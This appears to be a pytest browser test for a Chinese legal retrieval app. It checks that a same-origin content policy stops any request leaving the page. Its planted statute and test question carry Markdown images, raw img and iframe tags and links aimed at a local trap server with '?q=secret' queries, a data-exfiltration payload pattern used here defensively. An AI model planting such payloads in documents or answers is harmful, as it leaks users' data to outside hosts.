"""Issue 11 in a real Chromium: the 核查引用 tab, and no request leaving the page's origin
when a statute (hence the sources and maybe the answer) and a question carry Markdown
images, links, raw <img>/<iframe> and bare URLs pointing elsewhere.

The app is `legalrag serve` (a subprocess, as in test_browser.py) over the small real
corpus plus one planted statute file, with the SmolLM2 GGUF. The "other host" is a local
HTTP server on its own port that records every request it receives: the page must send it
none, and Playwright must see no request to any origin but the app's.
"""

from __future__ import annotations

import http.server
import shutil
import threading
from dataclasses import replace
from urllib.parse import urlsplit

import pytest
from test_browser import SHOTS, App, ask, fetch, free_port, open_chat

pytestmark = pytest.mark.browser


class Trap:
    """An HTTP server standing in for another host; records the paths requested."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        self.port = free_port()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.base = f"http://127.0.0.1:{self.port}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def leaky_statute(base: str) -> str:
    return (f"# 星河市数据出境管理办法\n\n"
            f"第一条 为了规范数据出境，制定本办法。![图]({base}/leak.png?q=secret)"
            f"详见[说明]({base}/link)，或 {base}/auto.png。\n\n"
            f'第二条 数据出境应当申报。<img src="{base}/img.png">'
            f'<iframe src="{base}/frame"></iframe>\n')


@pytest.fixture(scope="module")
def trap():
    t = Trap()
    yield t
    t.close()


@pytest.fixture(scope="module")
def leaky_app(small_settings, trap, tmp_path_factory):
    from legalrag.answer.modelfile import smollm2_path

    tmp = tmp_path_factory.mktemp("leaky")
    corpus = tmp / "corpus"
    shutil.copytree(small_settings.corpus_dir, corpus)
    (corpus / "用户上传").mkdir(exist_ok=True)
    (corpus / "用户上传" / "星河市数据出境管理办法.md").write_text(leaky_statute(trap.base),
                                                              encoding="utf-8")
    # Index the planted file before serving (an update of a copy of the small index), so
    # the first question already finds it.
    from legalrag.index.build import build_index

    shutil.copytree(small_settings.index_dir, tmp / "indexes")
    settings = replace(small_settings, corpus_dir=corpus, index_dir=tmp / "indexes")
    build_index(settings, update=True)
    served = App(tmp / "served", settings,
                 LEGALRAG_LLM_MODEL_PATH=str(smollm2_path()), LEGALRAG_LLM_MAX_TOKENS="64",
                 LEGALRAG_LLM_THREADS="1", LEGALRAG_ANSWER_SOURCE_TOKENS="300")
    yield served
    served.stop()


@pytest.fixture
def watched(browser, leaky_app):
    """A page and every URL it requested that is not the app's own origin."""
    origin = "{0.scheme}://{0.netloc}".format(urlsplit(leaky_app.url))
    context = browser.new_context(viewport={"width": 1400, "height": 950}, locale="zh-CN")
    pg = context.new_page()
    pg.set_default_timeout(60_000)
    elsewhere: list[str] = []
    pg.on("request", lambda r: elsewhere.append(r.url)
          if not (r.url.startswith(origin + "/") or r.url.startswith(("data:", "blob:")))
          else None)
    yield pg, elsewhere
    context.close()


def test_the_page_is_served_with_a_same_origin_csp(leaky_app):
    status, _, headers = fetch(leaky_app.url)
    assert status == 200
    csp = {k.lower(): v for k, v in headers.items()}["content-security-policy"]
    assert "default-src 'self'" in csp and "img-src 'self' data: blob:" in csp
    assert "http" not in csp


def test_no_request_leaves_the_origin(leaky_app, watched, trap):
    page, elsewhere = watched
    open_chat(page, leaky_app.url)
    question = f"星河市数据出境管理办法第一条 ![图]({trap.base}/question.png?q=secret) 是什么意思？"
    ask(page, question)
    page.wait_for_selector("#lr-sources .lr-src", timeout=120_000)
    page.wait_for_selector("#lr-chat .lr-disclaimer", timeout=300_000)
    page.wait_for_timeout(1500)  # give any image or frame time to be requested
    panel = page.locator("#lr-sources").inner_text()
    assert f"![图]({trap.base}/leak.png?q=secret)" in panel  # shown as text, not loaded
    user = page.locator('#lr-chat [data-testid="user"]').last.inner_text()
    assert f"![图]({trap.base}/question.png?q=secret)" in user  # the question as typed
    loaded = page.evaluate(
        "() => [...document.querySelectorAll('img[src], iframe[src], a[href]')]"
        ".map(e => e.src || e.href)"
        f".filter(u => u.includes('{trap.port}'))")
    assert loaded == []
    assert trap.hits == [], f"the page requested from another host: {trap.hits}"
    assert elsewhere == [], f"requests outside the app's origin: {elsewhere}"


def test_check_tab_labels_pasted_text_and_opens_the_article(leaky_app, watched):
    page, elsewhere = watched
    open_chat(page, leaky_app.url)
    page.get_by_role("tab", name="核查引用").click()
    page.locator("#lr-check-input textarea").fill(
        "依照《中华人民共和国劳动合同法》第四十七条第二款；《合同法》第一百零七条；"
        "《日本劳动法》第三十六条；《劳动合同法》第十十条。")
    page.locator("#lr-check").click()
    summary = page.locator("#lr-check-result .lr-check-summary")
    summary.wait_for()
    assert summary.inner_text() == ("共 4 处引用：现行有效 1，已失效 1，法库中无此条文 1，"
                                    "引用无效 1。点击引用查看条文。")
    inline = page.locator("#lr-check-result .lr-check-text")
    assert [inline.locator(f"a.lr-{label}").inner_text()
            for label in ("in_force", "repealed", "invented", "invalid")] == [
        "《中华人民共和国劳动合同法》第四十七条第二款", "《合同法》第一百零七条",
        "《日本劳动法》第三十六条", "《劳动合同法》第十十条"]
    assert inline.locator(".lr-badge").all_inner_texts() == [
        "✓现行有效", "✗已失效", "✗法库中无此条文", "✗引用无效"]
    card = page.locator("#lr-c1")
    assert card.get_attribute("open") is None
    inline.locator("a.lr-in_force").click()
    page.wait_for_function("document.getElementById('lr-c1').open")
    assert "劳动者月工资高于用人单位所在直辖市" in card.inner_text()
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / "check.png"), full_page=True)
    assert elsewhere == []

